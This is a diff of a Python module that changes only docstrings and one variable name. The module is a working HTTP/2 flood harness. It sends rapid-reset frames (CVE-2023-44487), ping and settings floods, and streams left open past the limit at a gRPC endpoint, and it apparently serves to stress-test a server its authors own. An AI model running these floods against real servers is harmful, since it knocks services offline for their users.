@@ -1,4 +1,4 @@
-"""A process of callers who speak HTTP/2 to do harm. It imports nothing that would make it slow to start."""
+"""HTTP/2 flood attacks on a server, run in a process of their own; imports little, to start quickly."""
 
 from __future__ import annotations
 
@@ -10,7 +10,7 @@ from typing import Any
 
 ATTACKERS = 4
 BACK_S = 1.0
-"""After which one that was sent away is there again, in seconds."""
+"""Seconds after which a disconnected attacker reconnects."""
 JUDGE = "/memecourt.v1.Court/Judge"
 
 DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
@@ -20,12 +20,12 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 
 
 def frame(kind, flags, stream, body=b""):
-    """RFC 9113, section 4.1."""
+    """Returns an HTTP/2 frame (RFC 9113, section 4.1)."""
     return struct.pack(">I", len(body))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + body
 
 
 def word(text):
-    """A string of HPACK (RFC 7541, section 5.2), of less than 127 bytes, as it is."""
+    """Returns an HPACK string literal of less than 127 bytes (RFC 7541, section 5.2)."""
     return bytes([len(text)]) + text.encode()
 
 
@@ -39,13 +39,13 @@ CALL = (
 
 
 def reset(number):
-    """A call that is taken back in the same breath (CVE-2023-44487)."""
+    """Returns a call that is reset at once (CVE-2023-44487)."""
     stream = 2 * number + 1
     return frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
 
 
 def reset_in_mid_message(number):
-    """As that, with the beginning of a message that is said to be large."""
+    """Returns a call that is reset after the beginning of a message declared as large."""
     stream = 2 * number + 1
     message = b"\0" + struct.pack(">I", 16_000_000) + bytes(64)
     body = frame(DATA, 0, stream, message)
@@ -61,7 +61,7 @@ def settings(number):
 
 
 def headers_only(number):
-    """Calls that are left open, more than may be at once."""
+    """Returns a call that is left open; many of them exceed the limit of concurrent calls."""
     return frame(HEADERS, END_HEADERS, 2 * number + 1, CALL)
 
 
@@ -69,7 +69,7 @@ FLOODS = {each.__name__: each for each in (reset, reset_in_mid_message, ping, se
 
 
 class Attacker(threading.Thread):
-    """Sends frames of a kind as fast as they are taken, over as many connections as that needs, until told to stop."""
+    """Sends frames as fast as the server takes them, reconnecting as needed, until ``over`` is set."""
 
     def __init__(self, address, attack):
         super().__init__(daemon=True)
@@ -83,8 +83,8 @@ class Attacker(threading.Thread):
         while not self.over.is_set():
             with suppress(OSError), socket.create_connection(self.place, timeout=10) as connection:
                 self.connections += 1
-                hearing = threading.Thread(target=hear_out, args=(connection,), daemon=True)
-                hearing.start()
+                reader = threading.Thread(target=hear_out, args=(connection,), daemon=True)
+                reader.start()
                 connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
                 for first in range(0, 100_000, 100):
                     if self.over.is_set():
@@ -101,7 +101,7 @@ def hear_out(connection):
 
 
 def flood(address: str, kind: str, least: int, pipe: Any) -> None:
-    """Says when it has begun; attacks until it is told to end and each has sent so many more; says how many were."""
+    """Attacks until told to stop and until each attacker has sent ``least`` more; reports counts at start and end."""
     attackers = [Attacker(address, FLOODS[kind]) for _ in range(ATTACKERS)]
     for attacker in attackers:
         attacker.start()
